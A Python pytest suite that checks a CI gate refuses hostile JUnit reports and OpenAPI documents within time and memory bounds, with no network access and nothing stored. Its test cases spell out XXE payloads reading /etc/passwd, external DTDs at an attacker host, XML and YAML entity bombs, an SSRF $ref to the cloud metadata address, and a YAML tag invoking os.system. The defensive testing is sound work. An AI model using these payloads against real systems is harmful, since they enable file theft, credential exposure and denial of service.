"""Hostile and malformed input: every case is refused with its code, within a bounded time and a bounded
amount of Python memory, without touching a file or the network, and nothing is stored.

JUnit reports go through evidence.judge (the write-time judgement: MALFORMED_EVIDENCE or PAYLOAD_TOO_LARGE);
OpenAPI documents through derivation.derive (MALFORMED_CHANGE_CONTEXT). Each input is at most the routes'
body limit (2 MiB), as a caller could send it. The bounds are generous for a busy CI machine; the measured
figures are in bench/bench_ingestion.py's output."""

from __future__ import annotations

import socket
import time
import tracemalloc
from collections.abc import Callable
from datetime import UTC, datetime

import pytest

from sentinel_domain.derivation import derive
from sentinel_domain.errors import Refusal
from sentinel_domain.evidence import EvidenceRefused, judge
from sentinel_domain.models import Change, EvidenceRequest, Policy, ProjectConfig
from sentinel_domain.usecases import Gate
from sentinel_service.http.problems import refusal_status
from support.world import BASE, CI, PROJECT, REV, UNIT_POLICY, World

SECONDS = 2.0
PEAK_BYTES = 40 * 1024 * 1024
LIMIT = 2 * 1024 * 1024

CONFIG = ProjectConfig.model_validate(
    {
        "environments": ["staging"],
        "unclassified_policy": "unit-tests",
        "derivation_rules": [{"openapi": "api", "policy_id": "unit-tests", "per": "operation"}],
    }
)
POLICY = Policy.model_validate(UNIT_POLICY)


@pytest.fixture(autouse=True)
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test: nothing here may be fetched."""

    def refuse(*_args, **_kwargs):
        raise AssertionError("a hostile input made the gate open a network connection")

    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)


def _refusal(action: Callable[[], object]) -> BaseException:
    try:
        action()
    except (Refusal, EvidenceRefused) as error:
        return error
    raise AssertionError("the hostile input was accepted")


def bounded(action: Callable[[], object]) -> tuple[BaseException, float, int]:
    """Run `action`, which must be refused: once timed, once under tracemalloc (which slows allocation-heavy
    code several times, so it would distort the time). Return the refusal, the seconds and the peak bytes."""
    started = time.perf_counter()
    caught = _refusal(action)
    elapsed = time.perf_counter() - started
    tracemalloc.start()
    try:
        again = _refusal(action)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert str(again) == str(caught), "the same input was refused differently the second time"
    assert elapsed < SECONDS, f"took {elapsed:.2f} s"
    assert peak < PEAK_BYTES, f"peak {peak / 1e6:.1f} MB"
    return caught, elapsed, peak


def evidence(xml: str) -> EvidenceRequest:
    return EvidenceRequest.model_validate(
        {
            "check_id": "C1",
            "subject": "payments",
            "revision": REV,
            "environment": "staging",
            "scope": ["api"],
            "observed_at": datetime(2026, 11, 29, tzinfo=UTC),
            "source": {"system": "ci"},
            "junit_xml": xml,
        }
    )


# ---- JUnit ------------------------------------------------------------------------------------------------

LOL = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
HOSTILE_JUNIT = {
    "external entity (XXE)": (
        '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        '<testsuite><testcase name="&x;"/></testsuite>',
        "MALFORMED_EVIDENCE",
        "DOCTYPE",
    ),
    "external parameter entity": (
        '<!DOCTYPE t [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><testsuite/>',
        "MALFORMED_EVIDENCE",
        "DOCTYPE",
    ),
    "external DTD": (
        '<!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite/>',
        "MALFORMED_EVIDENCE",
        "DOCTYPE",
    ),
    "billion laughs": (
        f'<!DOCTYPE t [<!ENTITY l0 "lol">{LOL}]><testsuite name="&l9;"/>',
        "MALFORMED_EVIDENCE",
        "DOCTYPE",
    ),
    "undeclared entity": (
        "<testsuite><testcase>&oob;</testcase></testsuite>",
        "MALFORMED_EVIDENCE",
        "undefined entity",
    ),
    "nesting bomb": ("<testsuites>" + "<testsuite>" * 150_000, "MALFORMED_EVIDENCE", "256"),
    "huge attribute over the limit": (
        '<testsuite><testcase name="' + "a" * LIMIT + '"/></testsuite>',
        "PAYLOAD_TOO_LARGE",
        "bytes",
    ),
    "huge text over the limit": (
        "<testsuite><testcase><system-out>" + "é" * (LIMIT // 2) + "</system-out></testcase></testsuite>",
        "PAYLOAD_TOO_LARGE",
        "bytes",
    ),
    "UTF-7 declaration hiding a failure": (
        '<?xml version="1.0" encoding="UTF-7"?><testsuite><testcase>'
        "+ADw-failure/+AD4-</testcase></testsuite>",
        "MALFORMED_EVIDENCE",
        "UTF-7",
    ),
    "UTF-16 declaration on UTF-8 text": (
        '<?xml version="1.0" encoding="UTF-16"?><testsuite><testcase/></testsuite>',
        "MALFORMED_EVIDENCE",
        "UTF-16",
    ),
    "NUL byte": ('<testsuite><testcase name="a\x00"/></testsuite>', "MALFORMED_EVIDENCE", "NUL"),
    "lone surrogate": ('<testsuite><testcase name="\ud800"/></testsuite>', "MALFORMED_EVIDENCE", "Unicode"),
    "truncated": (
        '<testsuite><testcase name="a"/><testcase name="b"><skipped',
        "MALFORMED_EVIDENCE",
        "not well-formed",
    ),
    "merge-conflict debris": (
        "<testsuite>\n<<<<<<< HEAD\n<testcase/>\n=======\n<testcase><failure/></testcase>\n"
        ">>>>>>> main\n</testsuite>",
        "MALFORMED_EVIDENCE",
        "not well-formed",
    ),
    "two concatenated reports": (
        "<testsuite><testcase/></testsuite><testsuite><testcase><failure/></testcase></testsuite>",
        "MALFORMED_EVIDENCE",
        "junk after document element",
    ),
    "not XML": ('{"tests": 10, "failures": 0}', "MALFORMED_EVIDENCE", "not well-formed"),
    "HTML error page": ("<html><body>502 Bad Gateway</body></html>", "MALFORMED_EVIDENCE", "root element"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_JUNIT))
def test_a_hostile_junit_report_is_refused_quickly_with_its_code(case):
    # Given a hostile or malformed report, as a publisher could send it
    xml, code, word = HOSTILE_JUNIT[case]
    # When it is judged at write time
    error, _elapsed, _peak = bounded(lambda: judge(evidence(xml), POLICY))
    # Then it is refused with its code and says why, within the time and memory bounds
    assert isinstance(error, EvidenceRefused)
    assert error.code == code and word in error.detail, (error.code, error.detail)


def test_a_large_attribute_within_the_limit_is_read_in_bounded_time():
    # Given a legitimate report whose one attribute fills almost the whole body limit
    xml = '<testsuite><testcase name="' + "a" * (LIMIT - 100) + '"/></testsuite>'
    tracemalloc.start()
    started = time.perf_counter()
    outcome, counts, _sha, _kind = judge(evidence(xml), POLICY)
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    # Then it is counted, quickly and without holding more than a few copies of it
    assert (outcome, counts["tests"]) == ("pass", 1)
    assert elapsed < SECONDS and peak < PEAK_BYTES


def test_a_refused_report_stores_nothing():
    # Given a candidate, and the state of its chain
    world = World()
    cid = world.candidate()["candidate_id"]
    gate: Gate = world.gate
    before = {ref: len(stream.events) for ref, stream in world.store.streams.items()}
    # When the trusted publisher posts a hostile report for it
    with pytest.raises(Refusal) as caught:
        gate.post_evidence(PROJECT, cid, CI, evidence(HOSTILE_JUNIT["billion laughs"][0]), None)
    # Then it is refused and nothing was appended: no fact exists that could ever count as a pass
    assert caught.value.code == "MALFORMED_EVIDENCE"
    assert {ref: len(stream.events) for ref, stream in world.store.streams.items()} == before
    assert BASE  # the world's candidate is at BASE..REV; nothing else is read


# ---- OpenAPI ----------------------------------------------------------------------------------------------

HEAD = "openapi: 3.0.0\ninfo: {title: t, version: '1'}\n"


def _alias_bomb() -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    return HEAD + "x-bomb:\n  " + "\n  ".join(lines) + "\npaths: {}\n"


def _merge_bomb() -> str:
    lines = ["m0: &m0 {k0: 1, k1: 2, k2: 3, k3: 4, k4: 5, k5: 6, k6: 7, k7: 8}"]
    lines += [
        f"m{i}: &m{i} {{<<: [" + ", ".join([f"*m{i - 1}"] * 8) + f"], own{i}: 1}}" for i in range(1, 12)
    ]
    return HEAD + "x-merge:\n  " + "\n  ".join(lines) + "\npaths: {}\n"


def _schemas(body: str) -> str:
    return HEAD + "paths: {}\ncomponents:\n  schemas:\n" + body


def _distinct_ref_nesting() -> str:
    # 400 different schemas, each holding the next in a property: no cycle, no chain, just deep
    body = "".join(
        f"    S{i}: {{type: object, properties: {{x: {{$ref: '#/components/schemas/S{i + 1}'}}}}}}\n"
        for i in range(400)
    )
    paths = (
        "paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
        "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n"
    )
    return HEAD + paths + "components:\n  schemas:\n" + body + "    S400: {type: string}\n"


def _unmodelled_keyword_nesting() -> str:
    # An unmodelled keyword (compared whole, references inlined) through 6 schemas, each 40 levels deep: no
    # document is deeper than MAX_DEPTH, but inlined they are 240 levels
    schemas = ""
    for i in range(6):
        inner = f"{{$ref: '#/components/schemas/S{i + 1}'}}"
        for _ in range(40):
            inner = f"{{type: object, properties: {{p: {inner}}}}}"
        schemas += f"    S{i}: {{if: {inner}}}\n"
    paths = (
        "paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
        "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n"
    )
    return HEAD.replace("3.0.0", "3.1.0") + paths + "components:\n  schemas:\n" + schemas + "    S6: {}\n"


HOSTILE_OPENAPI = {
    "an unmodelled keyword nesting 240 levels through $ref": (_unmodelled_keyword_nesting(), "through $ref"),
    "YAML alias bomb (billion laughs)": (_alias_bomb(), "nodes"),
    "YAML merge-key bomb": (_merge_bomb(), "nodes"),
    "recursive YAML alias": (HEAD + "paths: {}\nx-loop: &loop [*loop]\n", "refers to itself"),
    "deeply nested YAML": (HEAD + "paths: " + "[" * 200_000 + "]" * 200_000 + "\n", "nest"),
    "deeply nested JSON": ('{"openapi": "3.0.0", "paths": ' + "[" * 500_000 + "]" * 500_000 + "}", "nest"),
    "external $ref to a file": (_schemas("    Pet: {$ref: '../secrets/pet.yaml#/Pet'}\n"), "never fetched"),
    "external $ref to a URL": (
        _schemas("    Pet: {$ref: 'http://169.254.169.254/latest/meta-data/'}\n"),
        "never fetched",
    ),
    "external $ref to file://": (_schemas("    Pet: {$ref: 'file:///etc/passwd'}\n"), "never fetched"),
    "circular $ref chain": (
        _schemas("    A: {$ref: '#/components/schemas/B'}\n    B: {$ref: '#/components/schemas/A'}\n"),
        "circular",
    ),
    "very long $ref chain": (
        _schemas(
            "".join(f"    S{i}: {{$ref: '#/components/schemas/S{i + 1}'}}\n" for i in range(1000))
            + "    S1000: {type: string}\n"
        ),
        "chains more than",
    ),
    "schemas nested through 400 distinct $refs": (_distinct_ref_nesting(), "levels deep through $ref"),
    "oversized document": (HEAD + "paths: {}\nx-pad: '" + "a" * LIMIT + "'\n", "characters long"),
    # (as JSON: YAML of this size takes seconds under tracemalloc; test_openapi checks YAML's count exactly)
    "too many nodes": (
        '{"openapi": "3.0.0", "paths": {}, "x-many": [' + ",".join(["1"] * 300_000) + "]}",
        "nodes",
    ),
    "arbitrary Python object tag": (HEAD + "paths: {}\nx-p: !!python/object/apply:os.system ['id']\n", "tag"),
    "duplicate keys": (HEAD + "paths: {}\npaths: {/admin: {}}\n", "appears twice"),
    "NUL byte": (HEAD + "paths: {}\n\x00", "NUL"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_OPENAPI))
def test_a_hostile_openapi_document_is_refused_quickly_with_its_code(case):
    # Given a hostile document as the "after" side of a change context, within the body limit
    text, word = HOSTILE_OPENAPI[case]
    assert len(text.encode("utf-8")) <= LIMIT + 200
    # (on both sides: an operation is only compared when it exists before and after)
    change = Change.model_validate({"openapi": [{"name": "api", "before": text, "after": text}]})
    # When obligations are derived from it
    error, _elapsed, _peak = bounded(lambda: derive(change, CONFIG))
    # Then the change context is refused with its code, naming why, within the time and memory bounds
    assert isinstance(error, Refusal)
    assert (error.code, refusal_status(error)) == ("MALFORMED_CHANGE_CONTEXT", 422)
    assert word in error.detail, error.detail


def test_an_inline_object_nested_too_deeply_is_refused():
    # Given a deeply nested inline object (as a JSON body would deliver it)
    deep: dict = {}
    cursor = deep
    for _ in range(5_000):
        cursor["x"] = {}
        cursor = cursor["x"]
    change = Change.model_validate(
        {"openapi": [{"name": "api", "before": None, "after": {"openapi": "3.0.0", "x-deep": deep}}]}
    )
    # When obligations are derived, Then it is refused on the depth cap, not on Python's recursion limit
    error, _elapsed, _peak = bounded(lambda: derive(change, CONFIG))
    assert "nests more than" in str(error)


def test_a_schema_shared_through_many_paths_is_compared_once_per_pair():
    # Given 30 levels of schemas, each an allOf of four references to the next (4^30 paths), with the
    # leaf retyped: a naive walk would never end
    levels = 30
    schemas = "".join(
        f"    S{i}: {{allOf: [" + ", ".join([f"{{$ref: '#/components/schemas/S{i + 1}'}}"] * 4) + "]}\n"
        for i in range(levels)
    )
    paths = (
        "paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
        "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n"
    )
    before = HEAD + paths + "components:\n  schemas:\n" + schemas + f"    S{levels}: {{type: string}}\n"
    after = before.replace(f"S{levels}: {{type: string}}", f"S{levels}: {{type: integer}}")
    change = Change.model_validate({"openapi": [{"name": "api", "before": before, "after": after}]})
    # When obligations are derived
    tracemalloc.start()
    started = time.perf_counter()
    found = derive(change, CONFIG)
    elapsed = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    # Then the operation owes its obligation, as a breaking change, quickly and in little memory (each pair
    # of schemas is compared once, and a schema reports at most MAX_RECORDS changes)
    assert [o["scope"] for o in found] == ["api/GET /a"]
    assert "schema-type-changed" in found[0]["reason"] and "[breaking]" in found[0]["reason"]
    assert elapsed < SECONDS and peak < PEAK_BYTES, (elapsed, peak)
